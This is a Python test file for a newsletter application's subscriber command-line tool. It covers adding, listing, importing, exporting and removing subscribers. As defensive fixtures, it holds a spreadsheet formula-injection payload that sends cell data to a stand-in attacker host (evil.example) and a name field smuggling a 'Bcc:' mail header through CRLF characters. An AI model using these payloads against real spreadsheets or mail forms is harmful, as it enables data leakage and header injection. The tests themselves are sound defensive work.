"""`newsletter subscribers …` through Typer's CliRunner."""

from __future__ import annotations

import csv
import io
import json

from sqlalchemy import func, select

from newsletter.core.db.models import Subscriber
from newsletter.core.db.session import transaction
from newsletter.subscribers.formats import safe_cell
from tests.support.cli import fails, ok, partial


def test_subscribers_add_list_export_remove(labor, sent, tmp_path) -> None:
    assert "added" in ok("subscribers", "add", "Ana@Example.com", "--series", labor,
                         "--name", "Ana", "--confirmed")  # fmt: skip
    ok("subscribers", "add", "ben@example.com", "--series", labor)
    assert len(sent) == 1
    listed = ok("subscribers", "list", "--series", labor, "--status", "active")
    assert "Ana@example.com" in listed and "ben@" not in listed
    rows = json.loads(ok("subscribers", "export", "--format", "json"))
    assert [(r["email"], r["status"], r["series"]) for r in rows] == [
        ("Ana@example.com", "active", "tal:active"),
        ("ben@example.com", "pending", "tal:pending"),
    ]
    out = tmp_path / "subs.csv"
    ok("subscribers", "export", "--status", "pending", "--out", str(out))
    assert out.read_text().splitlines()[1].startswith(f"{rows[1]['id']},ben@example.com,")
    person = json.loads(ok("subscribers", "export", "--email", "ANA@example.com"))
    assert person["subscriber"]["name"] == "Ana"
    assert "erased 1" in ok("subscribers", "remove", "--status", "pending", "--yes")
    with transaction() as session:
        assert session.scalar(select(func.count()).where(Subscriber.email.is_not(None))) == 1
    assert "name an EMAIL" in fails("subscribers", "remove")
    assert "unknown status" in fails("subscribers", "list", "--status", "sleeping")
    assert "unknown format" in fails("subscribers", "export", "--format", "xml")
    assert "line breaks" in fails("subscribers", "add", "c@example.com", "--series", labor,
                                  "--name", "C\r\nBcc: x@example.com")  # fmt: skip
    assert "invalid email" in fails("subscribers", "add", "nope", "--series", labor)


def test_subscribers_import(labor, sent, tmp_path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("email,name\na@example.com,A\n\nbad,B\na@example.com,A2\n", encoding="utf-8")
    # Rows were skipped: the good one is imported, and the exit code says it was partial.
    output = partial("subscribers", "import", str(path), "--series", labor, "--confirmed")
    assert "line 3: empty line" in output and "line 4: invalid email" in output
    assert "line 5: duplicate of line 2" in output and "imported 1, skipped 3" in output
    assert "3 row(s) skipped" in output
    path.write_bytes(b"email\n\xff@example.com\n")
    assert "not UTF-8" in fails("subscribers", "import", str(path), "--series", labor)
    path.write_text("email\nz@example.com\n", encoding="utf-8")
    output = ok("subscribers", "import", str(path), "--series", labor)
    assert "imported 1, skipped 0, 1 confirmation mails queued" in output and len(sent) == 1


def test_export_neutralises_spreadsheet_formulas_but_stores_names_as_typed(labor, sent) -> None:
    """A name typed into the public form must not run as a formula in the operator's
    spreadsheet (OWASP CSV injection); the database keeps exactly what was typed."""
    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
    names = [evil, "+1 234", "-x", "@SUM(1)", "Ann"]
    for i, name in enumerate(names):
        ok("subscribers", "add", f"p{i}@example.com", "--series", labor, "--name", name)
    rows = list(csv.DictReader(io.StringIO(ok("subscribers", "export", "--format", "csv"))))
    exported = {row["email"]: row["name"] for row in rows}
    assert exported["p0@example.com"] == "'" + evil
    assert [exported[f"p{i}@example.com"] for i in range(1, 5)] == [
        "'+1 234",
        "'-x",
        "'@SUM(1)",
        "Ann",
    ]
    # Names cannot start with a tab or CR (they are trimmed), but other cells might.
    assert [safe_cell(v) for v in ("\tx", "\rx", "x=1", 5, None)] == [
        "'\tx",
        "'\rx",
        "x=1",
        5,
        None,
    ]
    with transaction() as session:
        stored = session.scalar(select(Subscriber.name).where(Subscriber.email == "p0@example.com"))
    assert stored == evil
